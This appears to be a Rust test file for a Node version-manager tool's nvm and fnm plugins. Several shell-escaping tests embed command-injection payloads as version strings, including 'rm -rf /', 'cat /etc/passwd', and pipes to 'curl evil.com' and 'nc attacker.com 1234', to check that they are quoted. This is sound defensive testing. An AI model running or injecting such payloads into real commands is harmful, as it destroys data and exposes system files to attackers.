use anvs::plugins::{FnmPlugin, MockPlugin, NvmPlugin, Plugin, VersionManagerPlugin};
use anvs::registry::PluginRegistry;
use std::sync::Arc;

#[test]
fn nvm_test_name() {
    let plugin = NvmPlugin::new();
    assert_eq!(plugin.name(), "nvm");
}

#[test]
fn nvm_test_version_files() {
    let plugin = NvmPlugin::new();
    assert_eq!(plugin.version_files(), vec![".nvmrc"]);
}

#[test]
fn nvm_test_activate_command() {
    let plugin = NvmPlugin::new();
    assert_eq!(plugin.activate_command("18.20.0").unwrap(), "nvm use 18.20.0");
}

#[test]
fn nvm_test_install_command() {
    let plugin = NvmPlugin::new();
    assert_eq!(plugin.install_command("18.20.0").unwrap(), "nvm install 18.20.0");
}

#[test]
fn nvm_test_shell_escaping_activate() {
    let plugin = NvmPlugin::new();
    let malicious_versions = vec![
        "18.20.0; rm -rf /",
        "18.20.0 && cat /etc/passwd",
        "18.20.0 | curl evil.com",
        "18.20.0$(whoami)",
        "18.20.0`whoami`",
    ];
    for version in malicious_versions {
        let cmd = plugin.activate_command(version).unwrap();
        assert!(
            cmd.contains("'") || cmd.contains("\\"),
            "Command should escape/quote special characters: {cmd}"
        );
        assert!(cmd.starts_with("nvm use "));
    }
}

#[test]
fn nvm_test_shell_escaping_install() {
    let plugin = NvmPlugin::new();
    let malicious_versions = vec![
        "18.20.0; rm -rf /",
        "18.20.0 && cat /etc/passwd",
        "18.20.0 | curl evil.com",
    ];
    for version in malicious_versions {
        let cmd = plugin.install_command(version).unwrap();
        assert!(
            cmd.contains("'") || cmd.contains("\\"),
            "Command should escape/quote special characters: {cmd}"
        );
        assert!(cmd.starts_with("nvm install "));
    }
}

#[test]
fn nvm_test_availability_caching() {
    let plugin = NvmPlugin::new();
    let result1 = plugin.is_available();
    let result2 = plugin.is_available();
    assert_eq!(result1.is_ok(), result2.is_ok());
    if let (Ok(r1), Ok(r2)) = (result1, result2) {
        assert_eq!(r1, r2);
    }
}

#[test]
fn fnm_test_name() {
    let plugin = FnmPlugin::new();
    assert_eq!(plugin.name(), "fnm");
}

#[test]
fn fnm_test_version_files() {
    let plugin = FnmPlugin::new();
    assert_eq!(plugin.version_files(), vec![".nvmrc", ".node-version"]);
}

#[test]
fn fnm_test_activate_command() {
    let plugin = FnmPlugin::new();
    let cmd = plugin.activate_command("18.20.0").unwrap();
    assert_eq!(cmd, "fnm use 18.20.0");
}

#[test]
fn fnm_test_install_command() {
    let plugin = FnmPlugin::new();
    let cmd = plugin.install_command("18.20.0").unwrap();
    assert_eq!(cmd, "fnm install 18.20.0");
}

#[test]
fn test_parse_fnm_list() {
    let plugin = FnmPlugin::new();
    let output = "* v18.20.0 default\n  v20.0.0\n  system";
    assert!(plugin.parse_fnm_list(output, "18.20.0"));
    assert!(plugin.parse_fnm_list(output, "v18.20.0"));
    assert!(plugin.parse_fnm_list(output, "20.0.0"));
    assert!(!plugin.parse_fnm_list(output, "16.0.0"));
}

#[test]
fn fnm_test_shell_escaping_activate() {
    let plugin = FnmPlugin::new();
    let cmd = plugin.activate_command("18.20.0; rm -rf /").unwrap();
    assert!(
        cmd.contains("'") || cmd.contains("\\"),
        "Command should escape/quote special characters: {cmd}"
    );
    assert!(cmd.starts_with("fnm use "));
}

#[test]
fn fnm_test_shell_escaping_install() {
    let plugin = FnmPlugin::new();
    let cmd = plugin.install_command("18.20.0 && cat /etc/passwd").unwrap();
    assert!(
        cmd.contains("'") || cmd.contains("\\"),
        "Command should escape/quote special characters: {cmd}"
    );
    assert!(cmd.starts_with("fnm install "));
}

#[test]
fn fnm_test_availability_caching() {
    let plugin = FnmPlugin::new();
    let result1 = plugin.is_available();
    let result2 = plugin.is_available();
    assert_eq!(result1.is_ok(), result2.is_ok());
    if let (Ok(r1), Ok(r2)) = (result1, result2) {
        assert_eq!(r1, r2);
    }
}

#[test]
fn test_plugin_activate_command_generation() {
    let plugin = MockPlugin::new("testvm").with_version("18.20.0");
    let cmd = plugin.activate_command("18.20.0").unwrap();
    assert_eq!(cmd, "testvm use 18.20.0");
}

#[test]
fn test_plugin_install_command_generation() {
    let plugin = MockPlugin::new("testvm");
    let cmd = plugin.install_command("18.20.0").unwrap();
    assert_eq!(cmd, "testvm install 18.20.0");
}

#[test]
fn test_plugin_command_escaping() {
    let plugin = MockPlugin::new("testvm");
    let malicious_version = "18.20.0; rm -rf /";
    let cmd = plugin.activate_command(malicious_version).unwrap();
    assert!(cmd.contains("testvm use"));
    assert!(cmd.contains(malicious_version));
}

#[test]
fn test_plugin_version_with_special_characters() {
    let plugin = MockPlugin::new("testvm");
    let versions = vec!["18.20.0", "v18.20.0", "lts/hydrogen", "lts/*", "node", "18"];
    for version in versions {
        let activate_cmd = plugin.activate_command(version).unwrap();
        assert!(activate_cmd.contains(version));
        let install_cmd = plugin.install_command(version).unwrap();
        assert!(install_cmd.contains(version));
    }
}

#[test]
fn test_plugin_trait_send_sync() {
    let plugin: Arc<Plugin> = Arc::new(Plugin::Mock(MockPlugin::new("test")));
    let plugin_clone = Arc::clone(&plugin);
    assert_eq!(plugin_clone.name(), "test");
}

#[test]
fn test_mock_plugin_builder_pattern() {
    let plugin = MockPlugin::new("test")
        .with_availability(true)
        .with_version("18.20.0")
        .with_version("20.0.0")
        .with_versions(&["21.0.0", "22.0.0"]);
    assert!(plugin.is_available().unwrap());
    assert!(plugin.has_version("18.20.0").unwrap());
    assert!(plugin.has_version("20.0.0").unwrap());
    assert!(plugin.has_version("21.0.0").unwrap());
    assert!(plugin.has_version("22.0.0").unwrap());
}

#[test]
fn test_plugin_availability_caching() {
    let plugin = MockPlugin::new("test").with_availability(true);
    assert!(plugin.is_available().unwrap());
    assert!(plugin.is_available().unwrap());
    assert!(plugin.is_available().unwrap());
}

#[test]
fn test_plugin_has_version_check_with_unavailable_plugin() {
    let plugin = MockPlugin::new("test")
        .with_availability(false)
        .with_version("18.20.0");
    assert!(!plugin.is_available().unwrap());
    assert!(plugin.has_version("18.20.0").unwrap());
}

#[test]
fn test_mock_plugin_basic() {
    let plugin = MockPlugin::new("test")
        .with_version("18.20.0")
        .with_version("20.0.0");
    assert_eq!(plugin.name(), "test");
    assert!(plugin.is_available().unwrap());
    assert!(plugin.has_version("18.20.0").unwrap());
    assert!(plugin.has_version("20.0.0").unwrap());
    assert!(!plugin.has_version("16.0.0").unwrap());
}

#[test]
fn test_mock_plugin_unavailable() {
    let plugin = MockPlugin::new("test")
        .with_availability(false)
        .with_version("18.20.0");
    assert!(!plugin.is_available().unwrap());
    assert!(plugin.has_version("18.20.0").unwrap());
}

#[test]
fn test_mock_plugin_commands() {
    let plugin = MockPlugin::new("testvm");
    assert_eq!(plugin.activate_command("18.20.0").unwrap(), "testvm use 18.20.0");
    assert_eq!(plugin.install_command("18.20.0").unwrap(), "testvm install 18.20.0");
}

#[test]
fn test_mock_plugin_with_versions_helper() {
    let plugin = MockPlugin::new("test").with_versions(&["18.20.0", "20.0.0", "21.0.0"]);
    assert!(plugin.has_version("18.20.0").unwrap());
    assert!(plugin.has_version("20.0.0").unwrap());
    assert!(plugin.has_version("21.0.0").unwrap());
    assert!(!plugin.has_version("16.0.0").unwrap());
}

#[test]
fn test_registry_with_built_in_plugins() {
    let registry = PluginRegistry::new(&["nvm".to_string(), "fnm".to_string()]);
    assert_eq!(registry.plugins().len(), 2);
}

#[test]
fn test_plugin_command_injection_awareness() {
    let plugin = MockPlugin::new("test");
    let malicious_version = "18.20.0; rm -rf /";
    let cmd = plugin.activate_command(malicious_version).unwrap();
    assert!(cmd.contains("test use"));
    assert!(cmd.contains(malicious_version));
}

#[test]
fn test_nvm_shell_escaping() {
    let plugin = NvmPlugin::new();
    let dangerous_inputs = vec![
        ("18.20.0; rm -rf /", ";"),
        ("18.20.0 && cat /etc/passwd", "&&"),
        ("18.20.0 | nc attacker.com 1234", "|"),
        ("18.20.0`whoami`", "`"),
        ("18.20.0$(whoami)", "$"),
    ];
    for (input, dangerous_char) in dangerous_inputs {
        let activate = plugin.activate_command(input).unwrap();
        let install = plugin.install_command(input).unwrap();
        assert!(activate.starts_with("nvm use "), "Expected 'nvm use' prefix, got: {activate}");
        assert!(
            install.starts_with("nvm install "),
            "Expected 'nvm install' prefix, got: {install}"
        );
        let activate_version = activate.strip_prefix("nvm use ").unwrap();
        let install_version = install.strip_prefix("nvm install ").unwrap();
        assert!(activate_version.starts_with('\'') && activate_version.ends_with('\''));
        assert!(install_version.starts_with('\'') && install_version.ends_with('\''));
        assert!(activate_version.contains(dangerous_char));
    }
}

#[test]
fn test_fnm_shell_escaping() {
    let plugin = FnmPlugin::new();
    let dangerous_inputs = vec![
        ("18.20.0; rm -rf /", ";"),
        ("18.20.0 && cat /etc/passwd", "&&"),
        ("18.20.0 | curl evil.com", "|"),
    ];
    for (input, dangerous_char) in dangerous_inputs {
        let activate = plugin.activate_command(input).unwrap();
        let install = plugin.install_command(input).unwrap();
        assert!(activate.starts_with("fnm use "), "Expected 'fnm use' prefix, got: {activate}");
        assert!(install.starts_with("fnm install "));
        let activate_version = activate.strip_prefix("fnm use ").unwrap();
        let install_version = install.strip_prefix("fnm install ").unwrap();
        assert!(activate_version.starts_with('\'') && activate_version.ends_with('\''));
        assert!(install_version.starts_with('\'') && install_version.ends_with('\''));
        assert!(activate_version.contains(dangerous_char));
    }
}

#[test]
fn test_nvm_normal_versions_not_over_quoted() {
    let plugin = NvmPlugin::new();
    for version in vec!["18.20.0", "20.0.0", "lts/hydrogen"] {
        let activate = plugin.activate_command(version).unwrap();
        let install = plugin.install_command(version).unwrap();
        assert!(activate.starts_with("nvm use "));
        assert!(install.starts_with("nvm install "));
        assert!(activate.contains(version) || activate.contains(&format!("'{version}'")));
        assert!(install.contains(version) || install.contains(&format!("'{version}'")));
    }
}

#[test]
fn test_fnm_normal_versions_not_over_quoted() {
    let plugin = FnmPlugin::new();
    for version in vec!["18.20.0", "20.0.0", "21.0.0"] {
        let activate = plugin.activate_command(version).unwrap();
        let install = plugin.install_command(version).unwrap();
        assert!(activate.starts_with("fnm use "));
        assert!(install.starts_with("fnm install "));
        assert!(activate.contains(version) || activate.contains(&format!("'{version}'")));
        assert!(install.contains(version) || install.contains(&format!("'{version}'")));
    }
}

#[test]
fn quoting_doubles_embedded_quotes_and_bangs() {
    let plugin = NvmPlugin::new();
    assert_eq!(plugin.activate_command("it's").unwrap(), "nvm use 'it'\\''s'");
    assert_eq!(plugin.install_command("a!b").unwrap(), "nvm install 'a'\\!'b'");
    assert_eq!(plugin.activate_command("").unwrap(), "nvm use ''");
}

#[test]
fn nvm_probe_is_read() {
    let plugin = NvmPlugin::from_probe(
        true,
        vec!["v18.20.0".to_string(), "v20.0.0".to_string()],
        Some("  v20.0.0\n".to_string()),
        Some("v18.20.0".to_string()),
    );
    assert!(plugin.has_version("18.20.0").unwrap());
    assert!(plugin.has_version("v20.0.0").unwrap());
    assert!(!plugin.has_version("16.0.0").unwrap());
    assert_eq!(plugin.current_version().unwrap(), Some("v20.0.0".to_string()));
    assert_eq!(plugin.default_version().unwrap(), Some("18.20.0".to_string()));
    let none = NvmPlugin::from_probe(true, vec![], Some("none".to_string()), Some("N/A".to_string()));
    assert_eq!(none.current_version().unwrap(), None);
    assert_eq!(none.default_version().unwrap(), None);
}

#[test]
fn fnm_probe_is_read() {
    let list = "* v18.20.0 default\n  v20.0.0\n  system\n";
    let plugin = FnmPlugin::from_probe(true, Some(list.to_string()), Some("v18.20.0".to_string()));
    assert!(plugin.has_version("20.0.0").unwrap());
    assert!(!plugin.has_version("system").unwrap());
    assert_eq!(plugin.default_version().unwrap(), Some("18.20.0".to_string()));
    assert_eq!(
        plugin.list_versions().unwrap(),
        vec!["v18.20.0".to_string(), "v20.0.0".to_string()]
    );
    assert_eq!(plugin.current_version().unwrap(), Some("v18.20.0".to_string()));
    let off = FnmPlugin::from_probe(false, Some(list.to_string()), Some("v18.20.0".to_string()));
    assert!(!off.has_version("20.0.0").unwrap());
    assert_eq!(off.current_version().unwrap(), None);
}

#[test]
fn mock_keeps_each_version_once() {
    let plugin = MockPlugin::new("m")
        .with_version("18.0.0")
        .with_version("18.0.0")
        .with_versions(&["18.0.0", "20.0.0", "20.0.0"]);
    assert_eq!(plugin.list_versions().unwrap(), vec!["18.0.0".to_string(), "20.0.0".to_string()]);
}
